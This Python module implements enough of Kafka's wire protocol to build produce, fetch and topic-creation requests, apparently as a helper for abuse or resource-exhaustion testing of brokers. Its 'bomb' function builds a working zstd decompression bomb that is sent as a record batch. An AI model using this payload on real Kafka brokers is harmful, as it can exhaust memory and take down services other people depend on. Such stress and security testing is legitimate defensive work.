"""As much of Kafka's wire protocol as the abuses need. Standard library only."""
import socket
import struct
import time

PRODUCE, FETCH, METADATA, FIND_COORDINATOR, JOIN_GROUP, API_VERSIONS, CREATE_TOPICS = 0, 1, 3, 10, 11, 18, 19


def int8(v): return struct.pack(">b", v)
def int16(v): return struct.pack(">h", v)
def int32(v): return struct.pack(">i", v)
def int64(v): return struct.pack(">q", v)
def text(v): return int16(-1) if v is None else int16(len(v.encode())) + v.encode()
def blob(v): return int32(len(v)) + v
def array(items): return int32(len(items)) + b"".join(items)


def varint(n):
    n, out = (n << 1) ^ (n >> 63), b""
    while n > 0x7F:
        out, n = out + bytes([n & 0x7F | 0x80]), n >> 7
    return out + bytes([n])


def request(api, version, body, correlation=1):
    frame = int16(api) + int16(version) + int32(correlation) + text("abuse") + body
    return int32(len(frame)) + frame


def connect(address, timeout=30, receive_buffer=None):
    host, port = address.rsplit(":", 1)
    s = socket.socket()
    if receive_buffer:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    s.settimeout(timeout)
    s.connect((host, int(port)))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def receive(s):
    """An answer without its length and correlation id."""
    return exactly(s, struct.unpack(">i", exactly(s, 4))[0])[4:]


def exactly(s, n):
    out = bytearray()
    while len(out) < n:
        piece = s.recv(n - len(out))
        if not piece:
            raise ConnectionError("the broker has closed the connection")
        out += piece
    return bytes(out)


def ask(s, api, version, body):
    s.sendall(request(api, version, body))
    return receive(s)


def _crc_table():
    for n in range(256):
        for _ in range(8):
            n = n >> 1 ^ (0x82F63B78 if n & 1 else 0)
        yield n


_CRC = tuple(_crc_table())


def crc32c(data):
    crc = 0xFFFFFFFF
    for byte in data:
        crc = _CRC[(crc ^ byte) & 0xFF] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def raw_batch(body, count=1, codec=0):
    stamp = int(time.time() * 1000)
    checked = int16(codec) + int32(count - 1) + int64(stamp) * 2 + struct.pack(">qhi", -1, -1, -1) + int32(count) + body
    rest = int32(-1) + int8(2) + struct.pack(">I", crc32c(checked)) + checked
    return int64(0) + int32(len(rest)) + rest


def batch(value_bytes, count=1):
    out = b""
    for i in range(count):
        record = b"\0" + varint(0) + varint(i) + varint(-1) + varint(value_bytes) + b"x" * value_bytes + varint(0)
        out += varint(len(record)) + record
    return raw_batch(out, count)


def bomb(unpacked_bytes):
    """A batch of one record of zeros in zstd: runs of 128 KiB, four bytes each."""
    head = b"\0" + varint(0) + varint(0) + varint(-1) + varint(unpacked_bytes)
    head = varint(len(head) + unpacked_bytes + 1) + head
    blocks, zeros = [struct.pack("<I", len(head) << 3)[:3] + head], unpacked_bytes + 1
    while zeros > 0:
        run = min(zeros, 1 << 17)
        zeros -= run
        blocks.append(struct.pack("<I", run << 3 | 2 | (zeros == 0))[:3] + b"\0")
    return raw_batch(struct.pack("<I", 0xFD2FB528) + b"\0\x38" + b"".join(blocks), codec=4)


def produce_request(topic, data, partition=0, acks=-1):
    body = text(None) + int16(acks) + int32(30000) + array([text(topic) + array([int32(partition) + blob(data)])])
    return request(PRODUCE, 8, body)


def produce(s, topic, data, partition=0):
    """The error and the offset."""
    s.sendall(produce_request(topic, data, partition))
    answer = receive(s)
    return struct.unpack(">hq", answer[4 + 2 + len(topic) + 4 + 4:][:10])


def fetch_request(topic, partitions, offset=0, max_bytes=1 << 30, wait_ms=500):
    wanted = array([int32(p) + int32(-1) + int64(offset) + int64(-1) + int32(max_bytes) for p in partitions])
    return request(FETCH, 11, int32(-1) + int32(wait_ms) + int32(1) + int32(max_bytes) + int8(0) + int32(0) + int32(-1)
                   + array([text(topic) + wanted]) + array([]) + text(""))


def new_topic(address, name, partitions, configs=None):
    s = connect(address)
    settings = array([text(k) + text(v) for k, v in (configs or {}).items()])
    ask(s, CREATE_TOPICS, 4, array([text(name) + int32(partitions) + int16(1) + array([]) + settings]) + int32(30000) + int8(0))
    for p in range(partitions):
        while produce(s, name, batch(1), p)[0] != 0:
            time.sleep(0.1)
    return name
